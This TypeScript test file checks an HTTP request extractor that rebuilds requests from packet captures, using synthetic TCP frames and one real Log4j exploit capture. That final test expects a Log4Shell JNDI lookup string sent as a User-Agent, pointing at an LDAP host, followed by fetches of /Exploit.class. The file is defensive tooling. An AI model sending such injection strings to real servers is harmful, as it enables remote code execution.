import { describe, expect, test } from 'vitest';
import { openCaptureFile } from '../../collect/capture-file.js';
import { formatIp, parseIp } from '../../core/ip.js';
import { sharedDataPath } from '../../test-support/shared-data.js';
import { HttpRequestExtractor } from './http-request-extractor.js';

const ETHERNET = 1;
const SYN = 2;
const FIN = 1;
const PSH_ACK = 24;

/** An Ethernet/IPv4/TCP frame carrying `payload`; `cut` drops trailing payload bytes as a snap length would. */
function frame(o: { src?: string; dst?: string; sport?: number; dport?: number; seq: number; flags?: number; payload?: string; ts?: number; cut?: number }) {
  const payload = Buffer.from(o.payload ?? '', 'latin1');
  const ipLength = 20 + 20 + payload.length;
  const b = Buffer.alloc(14 + ipLength);
  b.writeUInt16BE(0x0800, 12);
  b[14] = 0x45;
  b.writeUInt16BE(ipLength, 16);
  b[22] = 64;
  b[23] = 6;
  b.writeUInt32BE(parseIp(o.src ?? '10.0.0.1') as number, 26);
  b.writeUInt32BE(parseIp(o.dst ?? '10.0.0.2') as number, 30);
  b.writeUInt16BE(o.sport ?? 40000, 34);
  b.writeUInt16BE(o.dport ?? 80, 36);
  b.writeUInt32BE(o.seq >>> 0, 38);
  b[46] = 5 << 4;
  b[47] = o.flags ?? PSH_ACK;
  payload.copy(b, 54);
  const data = new Uint8Array(b.subarray(0, b.length - (o.cut ?? 0)));
  return { data, linkType: ETHERNET, timestamp: o.ts ?? 1_000, originalLength: b.length };
}

function run(frames: ReturnType<typeof frame>[], options = {}) {
  const x = new HttpRequestExtractor(options);
  for (const f of frames) x.addFrame(f);
  x.flush();
  return { requests: x.takeOutput(), stats: x.stats };
}

describe('HttpRequestExtractor', () => {
  test('a request in one segment', () => {
    const { requests, stats } = run([
      frame({ seq: 100, flags: SYN }),
      frame({ seq: 101, payload: 'GET /a?b=1 HTTP/1.1\r\nHost: h.example\r\nUser-Agent: ua/1\r\nAccept: */*\r\n\r\n', ts: 1234 }),
    ]);
    expect(stats).toEqual({ requests: 1, partial: 0, dropped: 0 });
    expect(requests.map((r) => ({ ...r, src: formatIp(r.src), dst: formatIp(r.dst) }))).toEqual([
      { ts: 1234, src: '10.0.0.1', dst: '10.0.0.2', sport: 40000, dport: 80, method: 'GET', host: 'h.example', uri: '/a?b=1', user_agent: 'ua/1', headers: 'Accept: */*', body: '', source: 'pcap' },
    ]);
  });

  test('a head split over three segments, with a retransmission and the other direction between', () => {
    const { requests, stats } = run([
      frame({ seq: 1000, payload: 'GET /long', ts: 10 }),
      frame({ src: '10.0.0.2', dst: '10.0.0.1', sport: 80, dport: 40000, seq: 5, payload: '\x00\x01', ts: 11 }),
      frame({ seq: 1009, payload: '/path HTTP/1.1\r\nHost: h', ts: 12 }),
      // Retransmission of the second segment overlapping the third: only "ost: h..." beyond 1032 is new.
      frame({ seq: 1009, payload: '/path HTTP/1.1\r\nHost: h.example\r\n\r\n', ts: 13 }),
    ]);
    expect(stats).toEqual({ requests: 1, partial: 0, dropped: 0 });
    expect(requests[0]).toMatchObject({ ts: 10, method: 'GET', uri: '/long/path', host: 'h.example' });
  });

  test('the body announced by Content-Length arrives in the next segment', () => {
    const { requests } = run([
      frame({ seq: 1, payload: 'POST /login HTTP/1.1\r\nHost: h\r\nContent-Length: 11\r\n\r\n' }),
      // The head is 22 + 9 + 20 + 2 = 53 bytes: the body starts at sequence 1 + 53.
      frame({ seq: 54, payload: 'uname=x&p=yTRAILING' }),
    ]);
    expect(requests).toHaveLength(1);
    expect(requests[0]!.body).toBe('uname=x&p=y');
    expect(requests[0]!.headers).toBe('Content-Length: 11');
  });

  test('a gap ends the head where it is: the request is emitted as partial', () => {
    const { requests, stats } = run([frame({ seq: 1, payload: 'GET /x HTTP/1.1\r\nHost: h\r\n' }), frame({ seq: 500, payload: 'X-Late: 1\r\n\r\n' })]);
    expect(stats).toEqual({ requests: 1, partial: 1, dropped: 0 });
    expect(requests[0]).toMatchObject({ uri: '/x', host: 'h', headers: '' });
  });

  test('a segment cut by the snap length ends the request', () => {
    const { requests, stats } = run([frame({ seq: 1, payload: 'GET /x HTTP/1.1\r\nHost: h\r\nAccept: a\r\n', cut: 10 }), frame({ seq: 38, payload: '\r\n' })]);
    expect(stats.partial).toBe(1);
    expect(requests[0]).toMatchObject({ uri: '/x', host: 'h' });
  });

  test('FIN ends a pending request; a line that never becomes HTTP/1.x is dropped', () => {
    const a = run([frame({ seq: 1, payload: 'GET /x HTTP/1.1\r\nHost: h\r\n', flags: PSH_ACK | FIN })]);
    expect(a.requests).toHaveLength(1);
    const b = run([frame({ seq: 1, payload: 'GET /partial' }), frame({ seq: 13, payload: ' SMTP/9\r\n\r\n' })]);
    expect(b.stats).toEqual({ requests: 0, partial: 0, dropped: 1 });
  });

  test('bounded: pending requests beyond the limit, or older than the pending time, are finished', () => {
    const starts = [1, 2, 3].map((i) => frame({ sport: 40000 + i, seq: 1, payload: `GET /${i} HTTP/1.1\r\n`, ts: i }));
    const { requests, stats } = run(starts, { maxPending: 2 });
    expect(requests.map((r) => r.uri)).toEqual(['/1', '/2', '/3']);
    expect(stats.partial).toBe(3);
    const x = new HttpRequestExtractor({ pendingMs: 1000 });
    x.addFrame(frame({ seq: 1, payload: 'GET /old HTTP/1.1\r\n', ts: 0 }));
    x.addFrame(frame({ sport: 1, seq: 1, flags: SYN, ts: 5000 }));
    expect(x.takeOutput().map((r) => r.uri)).toEqual(['/old']);
  });

  test('non-HTTP payloads yield nothing', () => {
    const { requests, stats } = run([frame({ seq: 1, payload: '\x16\x03\x01\x00\xa5' }), frame({ seq: 1, dport: 22, payload: 'SSH-2.0-x\r\n' }), frame({ seq: 1, payload: 'HTTP/1.1 200 OK\r\n\r\n' })]);
    expect(requests).toEqual([]);
    expect(stats).toEqual({ requests: 0, partial: 0, dropped: 0 });
  });
});

describe.skipIf(!sharedDataPath('pcap-malicious/ndpi/log4j-webapp-exploit.pcap'))('real capture', () => {
  test('nDPI log4j-webapp-exploit: the three requests tshark lists', () => {
    const source = openCaptureFile(sharedDataPath('pcap-malicious/ndpi/log4j-webapp-exploit.pcap')!);
    const x = new HttpRequestExtractor();
    for (const f of source.frames()) x.addFrame(f);
    source.close();
    x.flush();
    // tshark -Y http.request: frame times, addresses, ports, method, URI, User-Agent.
    expect(x.takeOutput().map((r) => [r.ts, formatIp(r.src), r.sport, formatIp(r.dst), r.dport, r.method, r.uri, r.user_agent])).toEqual([
      [1639425815415, '172.16.238.1', 1984, '172.16.238.10', 8080, 'POST', '/log4shell/login', 'jndi:ldap://172.16.238.11:1389/a'],
      [1639425815913, '172.16.238.10', 48444, '172.16.238.11', 80, 'GET', '/Exploit.class', 'Java/1.8.0_51'],
      [1639425834640, '172.16.238.10', 48534, '172.16.238.11', 80, 'GET', '/Exploit.class', 'Java/1.8.0_51'],
    ]);
  });
});
